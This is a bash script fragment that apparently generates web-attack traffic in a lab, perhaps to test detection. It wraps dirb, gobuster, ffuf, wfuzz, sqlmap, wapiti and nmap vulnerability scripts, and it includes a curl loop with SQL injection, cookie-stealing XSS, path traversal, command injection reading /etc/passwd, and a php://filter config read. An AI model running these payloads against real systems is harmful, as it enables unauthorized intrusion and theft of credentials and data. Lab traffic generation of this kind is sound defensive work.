# Attacks on web applications. Sourced by attacks.sh.
# shellcheck shell=bash disable=SC2034

# paths COUNT: names that path guessers try; its path.
paths() {
    local list=$LAB_DIR/paths-$1
    [ -f "$list" ] || awk -v n="$1" 'BEGIN { split("admin backup old test config login shell upload db private users api dev staging tmp logs", w, " "); for (i = 0; i < n; i++) print w[i % 16 + 1] (i < 16 ? "" : int(i / 16)) }' >"$list"
    echo "$list"
}

tool dirb_http web-attack a1 $WEB; dirb_http() { on 40 dirb http://$WEB/ "$(paths 300)" -S -r; }
tool dirb_tls web-attack a1 $WEB; dirb_tls() { on 40 dirb https://$WEB/ "$(paths 300)" -S -r; }
tool gobuster_http web-attack a2 $WEB; gobuster_http() { on 40 gobuster dir -q -z -t 8 -u http://$WEB -w "$(paths 400)"; }
tool gobuster_tls web-attack a2 $WEB; gobuster_tls() { on 40 gobuster dir -q -z -k -t 8 -u https://$WEB -w "$(paths 400)"; }
tool ffuf_http web-attack a1 $WEB; ffuf_http() { on 40 ffuf -s -t 10 -u http://$WEB/FUZZ -w "$(paths 400)"; }
tool ffuf_tls web-attack a3 $WEB; ffuf_tls() { on 40 ffuf -s -k -t 10 -u https://$WEB/FUZZ -w "$(paths 400)"; }
tool wfuzz_http web-attack a1 $WEB; wfuzz_http() { on 40 wfuzz --hc 404 -w "$(paths 200)" http://$WEB/FUZZ; }
tool sqlmap_get web-attack a2 $WEB; sqlmap_get() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 45 sqlmap --batch --disable-coloring --random-agent --timeout 5 -u "http://$WEB/item?id=1&name=chair"); }
tool sqlmap_tls web-attack a1 $WEB; sqlmap_tls() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 45 sqlmap --batch --disable-coloring --random-agent --timeout 5 -u "https://$WEB/item?id=1&name=chair"); }
tool sqlmap_post web-attack a3 $WEB; sqlmap_post() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 45 sqlmap --batch --disable-coloring --random-agent --timeout 5 -u "http://$WEB/item" --data 'id=1&name=chair'); }
tool whatweb_probe web-attack a1 $WEB; whatweb_probe() { on 40 whatweb -a 3 http://$WEB/; }
tool wapiti_http web-attack a2 $WEB; wapiti_http() { (cd "$LAB_DIR" && HOME=$LAB_DIR on 60 wapiti -u "http://$WEB/item?id=1" --scope url --flush-session --max-scan-time 45 -m xss,sql,file,exec); }
tool nmap_enum web-attack a1 $WEB; nmap_enum() { on 60 nmap -n -Pn -p 80 --script http-enum,http-vuln-cve2017-5638,http-shellshock,http-config-backup $WEB; }
tool curl_inject web-attack a1 $WEB
curl_inject() {
    local u
    for u in "/item?id=1'%20OR%20'1'='1" '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' '/get?file=../../../../etc/passwd' '/ping?host=127.0.0.1;cat%20/etc/passwd' \
        "/item?id=1%20UNION%20SELECT%20user,password%20FROM%20users--" '/index.php?page=php://filter/convert.base64-encode/resource=config'; do
        on 5 curl -s -o /dev/null -m 5 -A 'Mozilla/5.0' "http://$WEB$u"; sleep 1
    done
}
tool curl_paths_tls web-attack a1 $WEB; curl_paths_tls() { on 60 bash -c 'while read -r w; do curl -sk -o /dev/null -m 5 -A Mozilla/5.0 "https://10.20.0.10/$w.php"; done <"$0"' "$(paths 200)"; }
